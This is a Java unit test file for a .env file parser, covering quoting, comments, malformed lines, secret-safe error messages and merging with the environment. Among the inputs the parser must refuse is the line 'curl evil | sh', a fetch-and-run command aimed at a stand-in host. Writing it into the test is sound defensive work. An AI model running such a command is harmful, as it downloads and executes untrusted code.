package io.vigie.local.setting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.entry;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DotEnvTests {

	@TempDir
	private Path folder;

	@ParameterizedTest
	@CsvSource(quoteCharacter = '~', delimiter = '|', value = {
			"A=1|1",
			"  A = 1  |1",
			"export A=1|1",
			"A=two words|two words",
			"A=1 # one|1",
			"A=1#one|1#one",
			"A=\"1 # one\"|1 # one",
			"A=\"1\" # one|1",
			"A='it is \"so\"'|it is \"so\"",
			"A=$HOME|$HOME",
			"A=`date`|`date`",
			"A=b=c|b=c"})
	void readsAValue(String line, String value) {
		assertThat(DotEnv.parse(List.of(line))).containsExactly(entry("A", value));
	}

	@ParameterizedTest
	@ValueSource(strings = {"", "   ", "# a comment", "  # A=1", "A=", "A=   ", "A=\"\"", "A=# not yet", "A= # not yet"})
	void takesFromThisLineNothing(String line) {
		assertThat(DotEnv.parse(List.of(line))).isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = {"A", "1A=2", "A-B=2", "=2", "A: 2", "curl evil | sh"})
	void refusesALineThatIsNoSetting(String line) {
		assertThatThrownBy(() -> DotEnv.parse(List.of("GOOD=1", "", line))).isInstanceOf(Refusal.class)
			.hasMessageStartingWith("Line 3 of .env is not NAME=value: ");
	}

	@Test
	void refusesAQuoteThatDoesNotEnd() {
		assertThatThrownBy(() -> DotEnv.parse(List.of("A=\"b"))).isInstanceOf(Refusal.class)
			.hasMessage("Line 1 of .env begins with a quote that does not end.");
	}

	@Test
	void doesNotRepeatASecret() {
		assertThatThrownBy(() -> DotEnv.parse(List.of("ALPACA_KEY : sdkfj45lkj34"))).hasMessageNotContaining("sdkfj45");
		assertThatThrownBy(() -> DotEnv.parse(List.of("ALPACA_KEY='sdkfj45lkj34"))).hasMessageNotContaining("sdkfj45");
	}

	@Test
	void takesTheLastOfTwo() {
		assertThat(DotEnv.parse(List.of("A=1", "A=2"))).containsExactly(entry("A", "2"));
	}

	@Test
	void letsTheEnvironmentWin() throws IOException {
		Path file = Files.writeString(folder.resolve(".env"), "A=file\nB=file\n");
		assertThat(DotEnv.merge(Map.of("A", "environment", "C", "environment"), file))
			.containsOnly(entry("A", "environment"), entry("B", "file"), entry("C", "environment"));
	}

	@Test
	void needsNoFile() {
		assertThat(DotEnv.merge(Map.of("A", "1"), folder.resolve(".env"))).containsExactly(entry("A", "1"));
	}

	@Test
	void understandsTheExampleWeShip() throws IOException {
		List<String> lines = Files.readAllLines(Path.of("../../.env.example"));
		assertThat(DotEnv.parse(lines).keySet()).allMatch(name -> name.startsWith("VIGIE_") || name.startsWith("ALPACA_") || name.equals("COMPOSE_PROFILES"));
		// Uncommented, each line has to hold as well.
		List<String> all = lines.stream().filter(line -> line.matches("#\\s?[A-Z_]+=.*")).map(line -> line.replaceFirst("#\\s?", "")).toList();
		assertThat(DotEnv.parse(all).size() + DotEnv.parse(lines).size()).isPositive();
	}
}
